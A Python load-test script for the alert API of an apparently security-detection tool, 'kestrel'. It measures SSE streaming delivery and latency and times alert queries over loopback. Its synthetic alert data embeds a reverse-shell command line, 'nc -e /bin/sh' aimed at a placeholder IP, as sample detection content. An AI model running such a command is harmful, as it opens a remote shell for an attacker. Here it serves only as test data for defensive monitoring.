"""Load test of the api sink, loopback only, bounded in time and count.

1. Stream: the sink (in this process, its own Uvicorn thread, a real SQLite
   file, default group commit) is written ``--rate`` alerts/s for
   ``--seconds`` s, flushed every 50 ms as ``kestrel run`` does, while
   ``--clients`` SSE clients (threads of one child process) stream from
   ``Last-Event-ID: 0``.  Every client must receive every alert exactly once
   and in order (ids 1..N, consecutive).  Latency: commit (``stored_ns``) to
   receipt by the client.
2. Query: a store of ``--store-size`` alerts (bulk-filled), then
   ``--queries`` sequential ``GET /api/alerts?limit=100`` per query shape,
   timed by the client (request to parsed JSON).

Prints a Markdown table; exits 1 if a client missed, doubled or reordered an
alert, or the p99 of the plain list query is 50 ms or more.

    .venv/bin/python plugins/api-server/benchmarks/load.py            # 1,000/s x 60 s, 20 clients, 1M store
    .venv/bin/python plugins/api-server/benchmarks/load.py --seconds 5 --store-size 100000   # quick
"""

from __future__ import annotations

import argparse
import http.client
import json
import os
import re
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

ID_RE = re.compile(rb"^id: (\d+)$")
STORED_RE = re.compile(rb'"stored_ns":(\d+)')


def pct(values: list[float], p: float) -> float:
    if not values:
        return float("nan")
    values = sorted(values)
    return values[min(len(values) - 1, int(round(p / 100 * (len(values) - 1))))]


# ------------------------------------------------------------------ child: SSE clients


def client_main(port: int, n_clients: int, expect: int, deadline_s: float) -> None:
    results: list[dict] = [{} for _ in range(n_clients)]
    ready = threading.Barrier(n_clients + 1)

    def one(k: int) -> None:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=deadline_s)
        conn.request("GET", "/api/stream", headers={"Last-Event-ID": "0"})
        resp = conn.getresponse()
        ready.wait()
        ids: list[int] = []
        lat: list[float] = []
        current = None
        end = time.monotonic() + deadline_s
        try:
            while len(ids) < expect and time.monotonic() < end:
                line = resp.fp.readline()
                if not line:
                    break
                m = ID_RE.match(line.rstrip(b"\n"))
                if m:
                    current = int(m.group(1))
                elif line.startswith(b"data:") and current is not None:
                    s = STORED_RE.search(line)
                    if s:
                        lat.append((time.time_ns() - int(s.group(1))) / 1e6)
                    ids.append(current)
                    current = None
        except OSError:
            pass
        conn.close()
        dup = len(ids) - len(set(ids))
        results[k] = {"received": len(ids), "in_order": ids == list(range(1, len(ids) + 1)), "duplicates": dup,
                      "last": ids[-1] if ids else 0, "p50_ms": pct(lat, 50), "p99_ms": pct(lat, 99),
                      "max_ms": max(lat) if lat else float("nan")}

    threads = [threading.Thread(target=one, args=(k,)) for k in range(n_clients)]
    for t in threads:
        t.start()
    ready.wait()
    print("READY", flush=True)
    for t in threads:
        t.join()
    print(json.dumps(results), flush=True)


# ------------------------------------------------------------------ parent


def stream_phase(args: argparse.Namespace, workdir: Path) -> dict:
    from kestrel_core.alert import Alert
    from kestrel_core.testing import make_context, make_event
    from kestrel_api_server import ApiSink

    ctx = make_context()
    sink = ApiSink(ApiSink.Settings(address="127.0.0.1:0", path=str(workdir / "stream.sqlite"), rate_limit=0,
                                    retention_max_alerts=0), ctx)
    sink.open()
    port = int(sink.bound_address.rsplit(":", 1)[1])
    total = int(args.rate * args.seconds)
    child = subprocess.Popen([sys.executable, __file__, "--child", str(port), str(args.clients), str(total),
                              str(args.seconds + 60)], stdout=subprocess.PIPE, text=True)
    assert child.stdout.readline().strip() == "READY"
    severities = ("critical", "high", "medium", "low")
    events = [make_event(ctx, "process", 0, 1, process__name="nc", host__name=f"h{i % 50}") for i in range(64)]
    start = time.monotonic()
    last_flush = start
    lag_max = 0.0
    for i in range(total):
        due = start + i / args.rate
        now = time.monotonic()
        if due > now:
            time.sleep(due - now)
        else:
            lag_max = max(lag_max, now - due)
        now_ns = time.time_ns()
        sink.write_alert(Alert(rule_id=f"r{i % 100}", rule_name=f"rule {i % 100}", severity=severities[i % 4],
                               events=[events[i % 64]], fields={"process.name": "nc"}, ts_wall_ns=now_ns,
                               ts_mono_ns=now_ns))
        if time.monotonic() - last_flush >= 0.05:
            sink.flush()
            last_flush = time.monotonic()
    sink.flush()
    elapsed = time.monotonic() - start
    out, _ = child.communicate(timeout=args.seconds + 120)
    sink.close()
    clients = json.loads(out.strip().splitlines()[-1])
    return {"total": total, "elapsed": elapsed, "rate": total / elapsed, "writer_lag_max_s": lag_max,
            "clients": clients}


def query_phase(args: argparse.Namespace, workdir: Path) -> dict:
    from kestrel_core.testing import make_context
    from kestrel_api_server import ApiSink
    from kestrel_api_server.store import NewAlert, SqliteAlertStore

    path = str(workdir / "big.sqlite")
    store = SqliteAlertStore(path, synchronous="normal")
    t0 = time.monotonic()
    base = time.time_ns() - args.store_size * 10**6
    severities = ("critical", "high", "medium", "low")
    doc = {"rule": {"id": "r"}, "events": [{"process": {"name": "nc", "args": ["nc", "-e", "/bin/sh", "203.0.113.7"]},
                                            "host": {"name": "h"}}], "fields": {"process.name": "nc"}}
    chunk = 50_000
    for lo in range(0, args.store_size, chunk):
        store.add_many(NewAlert(ts_ns=base + i * 10**6, rule_id=f"r{i % 100}", rule_name=f"rule {i % 100}",
                                severity=severities[i % 4], host=f"h{i % 500}",
                                container=f"c{i % 200}" if i % 3 else None, doc=doc)
                       for i in range(lo, min(args.store_size, lo + chunk)))
    fill_s = time.monotonic() - t0
    store.close()
    size_mb = os.path.getsize(path) / 1e6
    sink = ApiSink(ApiSink.Settings(address="127.0.0.1:0", path=path, rate_limit=0, retention_max_alerts=0,
                                    retention_days=0), make_context())
    sink.open()
    port = int(sink.bound_address.rsplit(":", 1)[1])
    mid = args.store_size // 2
    from kestrel_api_server.app import encode_cursor

    shapes = {
        "limit=100": "/api/alerts?limit=100",
        "limit=100&severity=high": "/api/alerts?limit=100&severity=high",
        "limit=100&host=h7": "/api/alerts?limit=100&host=h7",
        "limit=100&cursor=(middle)": f"/api/alerts?limit=100&cursor={encode_cursor(mid)}",
        "limit=100&start=(1 min ago)": f"/api/alerts?limit=100&start={base + (args.store_size - 60_000) * 10**6}",
        "limit=100&start..end (1 min, middle)":
            f"/api/alerts?limit=100&start={base + mid * 10**6}&end={base + mid * 10**6 + 60 * 10**9}",
    }
    results = {}
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    for name, url in shapes.items():
        lat = []
        for _ in range(args.queries):
            t = time.perf_counter()
            conn.request("GET", url)
            resp = conn.getresponse()
            body = json.loads(resp.read())
            lat.append((time.perf_counter() - t) * 1000)
            assert resp.status == 200 and len(body["alerts"]) == 100, (name, resp.status)
        results[name] = {"p50_ms": statistics.median(lat), "p99_ms": pct(lat, 99), "max_ms": max(lat)}
    conn.close()
    sink.close()
    return {"size": args.store_size, "fill_s": fill_s, "size_mb": size_mb, "queries": results}


def main() -> int:
    if len(sys.argv) > 1 and sys.argv[1] == "--child":
        client_main(int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]))
        return 0
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--rate", type=float, default=1000)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--clients", type=int, default=20)
    ap.add_argument("--store-size", type=int, default=1_000_000)
    ap.add_argument("--queries", type=int, default=1000)
    args = ap.parse_args()
    with tempfile.TemporaryDirectory(prefix="kestrel-api-load-") as tmp:
        s = stream_phase(args, Path(tmp))
        q = query_phase(args, Path(tmp))
    ok = True
    print(f"## Stream: {s['total']:,} alerts at {s['rate']:.0f}/s for {s['elapsed']:.1f} s "
          f"(writer lag max {s['writer_lag_max_s'] * 1000:.0f} ms), {len(s['clients'])} SSE clients\n")
    print("| client | received | exactly once, in order | write_alert -> client P50 ms | P99 ms | max ms |")
    print("|---|---|---|---|---|---|")
    for k, c in enumerate(s["clients"]):
        good = c["received"] == s["total"] and c["in_order"] and c["duplicates"] == 0
        ok &= good
        print(f"| {k + 1} | {c['received']:,} | {'yes' if good else 'NO'} | {c['p50_ms']:.1f} | {c['p99_ms']:.1f} | "
              f"{c['max_ms']:.1f} |")
    print(f"\n## Query: store of {q['size']:,} alerts ({q['size_mb']:.0f} MB, filled in {q['fill_s']:.0f} s), "
          f"{args.queries} sequential requests per shape\n")
    print("| GET /api/alerts? | P50 ms | P99 ms | max ms |")
    print("|---|---|---|---|")
    for name, r in q["queries"].items():
        print(f"| {name} | {r['p50_ms']:.2f} | {r['p99_ms']:.2f} | {r['max_ms']:.2f} |")
    plain = q["queries"]["limit=100"]["p99_ms"]
    ok &= plain < 50
    print(f"\nresult: {'PASS' if ok else 'FAIL'} (every client every alert once in order; limit=100 P99 {plain:.1f} ms < 50 ms)")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    raise SystemExit(main())
